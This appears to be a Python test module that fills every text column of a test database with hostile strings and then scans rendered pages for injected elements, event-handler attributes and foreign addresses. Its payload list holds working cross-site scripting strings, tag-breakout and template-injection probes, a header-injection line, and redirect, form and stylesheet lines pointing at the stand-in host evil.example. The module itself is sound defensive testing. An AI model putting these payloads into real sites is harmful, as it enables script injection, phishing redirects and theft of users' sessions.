"""Hostile texts in every field of the database that holds somebody's words, and what must be true of pages then."""

import json
from collections.abc import Callable, Iterator, Sequence
from typing import Any, Final
from urllib.parse import urlsplit
from zlib import crc32

from lxml import html
from sqlalchemy import Connection, Engine, create_engine, text
from sqlalchemy.exc import DataError, IntegrityError

from tests.api.running import Service
from tests.console.prepared import PAGES, address_of
from tests.databases import TestDatabase
from tests.launch import STREAM
from workflow.operating.personal_data import ERASED, KEPT

MARK: Final = "hzq"
"""Elements and attributes of this name are none of ours."""
TEXTS: Final = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1>",
    f"<{MARK} {MARK}=1>",
    f'" {MARK}=1 onfocus=window.hacked=1 autofocus x="',
    f"' {MARK}=1 onmouseover=window.hacked=1 x='",
    "</textarea></select></title></style></script><script>window.hacked = 1</script>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>see</a>",
    "javascript:window.hacked=1",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>Sign in</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "<button hx-get='https://evil.example/' hx-trigger='load'>x</button>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7 %>",
    "<!-- --> <![CDATA[ x ]]> &lt;script&gt; &#60;script&#62; \\u003cscript\\u003e",
    "\u202e evil \u2066 \u200b \ufeff \r\n Set-Cookie: a=b",
)
_CODE: Final = "a code, a state or a kind"
_NAMES: Final = frozenset(
    {"slug", "domain", "host", "address", "lane", "email", "recipient_email", "contact_email", "mailbox", "hint", "key",
     "sealed", "challenge", "queue", "target", "idempotency_key", "next_path", "issuer", "subject", "name_search",
     "search", "workspace", "time_zone", "saved", "seen", "data", "cause", "document", "answer", "table_name", "keys",
     "status"}
)  # fmt: skip
"""Columns that are looked up, sealed or read by programs: of another form than words, which something holds."""
_READ: Final = frozenset(
    {"code", "kind", "subkind", "status", "state", "type", "id", "colour", "event", "page", "change"}
)
"""Names in JSON whose values are codes."""
_ADDRESSES: Final = frozenset({"href", "src", "action", "formaction", "hx-get", "hx-post"})
_FINDINGS: Final = frozenset({"findings", "latest_findings"})


class Poison:
    """Writes texts into all fields that hold words, past the rules by which they were let in."""

    def __init__(self, database: TestDatabase) -> None:
        self._engine = create_engine(database.superuser_url)
        self._columns = list(_columns(self._engine))

    def write(self, make: Callable[[str], str]) -> set[str]:
        """Replaces each text by what `make` returns for the name of its column. Returns the names of the columns.

        A column that takes no such text, because of a constraint, keeps what it has.
        """
        written = set()
        with self._engine.begin() as connection:
            connection.execute(text("SET LOCAL session_replication_role = replica"))
            for table, column, kind in self._columns:
                try:
                    with connection.begin_nested():
                        _write(connection, table, column, kind, make)
                    written.add(f"{table}.{column}")
                except (DataError, IntegrityError):
                    continue
        return written

    def close(self) -> None:
        """Closes the connections."""
        self._engine.dispose()


def _write(connection: Connection, table: str, column: str, kind: str, make: Callable[[str], str]) -> None:
    name = f"{table}.{column}"
    if column in _FINDINGS:
        found = {part: make(f"{name}.{part}") for part in ("detail", "remedy", "where", "evidence")}
        statement = f"UPDATE {table} SET {column} = CAST(:new AS jsonb)"
        connection.execute(text(statement), {"new": json.dumps([{"code": "found", **found}])})
    elif kind == "jsonb":
        for place, value in connection.execute(text(f"SELECT ctid::text, {column} FROM {table}")).all():
            statement = f"UPDATE {table} SET {column} = CAST(:new AS jsonb) WHERE ctid = CAST(:at AS tid)"
            connection.execute(text(statement), {"new": json.dumps(_replaced(value, name, make)), "at": place})
    else:
        longest = 100 if column == "name" else 4000
        statement = f"UPDATE {table} SET {column} = left(:new, {longest}) WHERE {column} IS NOT NULL"
        connection.execute(text(statement), {"new": make(name)})


def _columns(engine: Engine) -> Iterator[tuple[str, str, str]]:
    """Yields the tables, names and types of the columns that hold words."""
    said = {(table, name): why for table, columns in KEPT.items() for name, why in columns.items()}
    words = {place for place, why in said.items() if why != _CODE}
    words |= {(table, name) for table, erased in ERASED.items() for name in (*erased.columns, *erased.deleted)}
    statement = """SELECT table_name, column_name, data_type FROM information_schema.columns
                    WHERE table_schema = 'public' AND data_type IN ('text', 'character varying', 'jsonb')"""
    with engine.connect() as connection:
        for table, name, kind in connection.execute(text(statement)):
            if (table, name) in words and name not in _NAMES:
                yield table, name, kind


def _replaced(value: Any, name: str, make: Callable[[str], str]) -> Any:
    """Returns the JSON with each text in it replaced, but for codes."""
    if isinstance(value, str):
        return make(name)
    if isinstance(value, list):
        return [_replaced(one, name, make) for one in value]
    if isinstance(value, dict):
        kept = {key: one for key, one in value.items() if key in _READ or key.endswith(("_id", "_at"))}
        return {key: kept.get(key, _replaced(one, f"{name}.{key}", make)) for key, one in value.items()}
    return value


def one_of(texts: Sequence[str], name: str) -> str:
    """Returns one of the texts, another one for most fields of other names."""
    return texts[crc32(name.encode()) % len(texts)]


def problems_of_markup(content: bytes) -> list[str]:
    """Returns what of a page can only come from a text: elements, attributes, addresses."""
    tree = html.document_fromstring(content)
    found = [
        f"<{one.tag}>"
        for one in tree.iter()
        if isinstance(one.tag, str) and one.tag in {"iframe", "svg", "style", "base", "object", "embed", MARK}
    ]
    found += [f"a comment {one.text!r}" for one in tree.iter(html.etree.Comment)]
    for one in tree.iter(html.etree.Element):
        for name, value in one.attrib.items():
            if name == MARK or name.startswith("on") or name in {"srcdoc", "style"}:
                found.append(f"<{one.tag} {name}={value!r}>")
            if name in {"href", "src", "action", "formaction", "hx-get", "hx-post"} and not _is_harmless(
                one.tag, value
            ):
                found.append(f"<{one.tag} {name}={value!r}>")
    found += [f"a script {one.text!r}" for one in tree.iter("script") if one.text or not one.get("src")]
    return found


def _is_harmless(tag: str, value: str) -> bool:
    own = value.startswith(("/", "#", "?")) and not value.startswith("//")
    return own or value == "" or (tag == "a" and value.startswith(("https://", "http://", "mailto:")))


def prepared(service: Service) -> list[tuple[str | None, str]]:
    """Returns who opens what: all pages, with something in them."""
    found = [(address.role, address_of(service, name)) for name, address in PAGES.items()]
    for review in service.reviewer("GET", "/v1/reviews?show=open&limit=50").json()["items"]:
        path = f"/v1/reviews/{review['id']}"
        for where in ("messages", "notes"):
            written = service.reviewer("POST", f"{path}/{where}", {"text": "Words."})
            assert written.status_code in (200, 201), written.text
        service.partner("POST", f"/v1/apps/{review['app']}/messages", {"text": "An answer."})
        service.reviewer("PUT", f"{path}/draft", {"text": "A draft.", "saved": []})
    added = service.reviewer("POST", "/v1/saved-reasons", {"code": "docs.links", "text": "Mend the links."})
    assert added.status_code in (201, 409), added.text
    for slug in {urlsplit(address).path.split("/")[2] for _, address in found if "/apps/" in address}:
        evidence = {"url": "https://acme.example/docs"}
        service.partner("PUT", f"/v1/apps/{slug}/checklist/partner_documentation", {"evidence": evidence})
        service.partner("POST", f"/v1/apps/{slug}/components", {"kind": "stream", "name": "Events", "settings": STREAM})
    return found
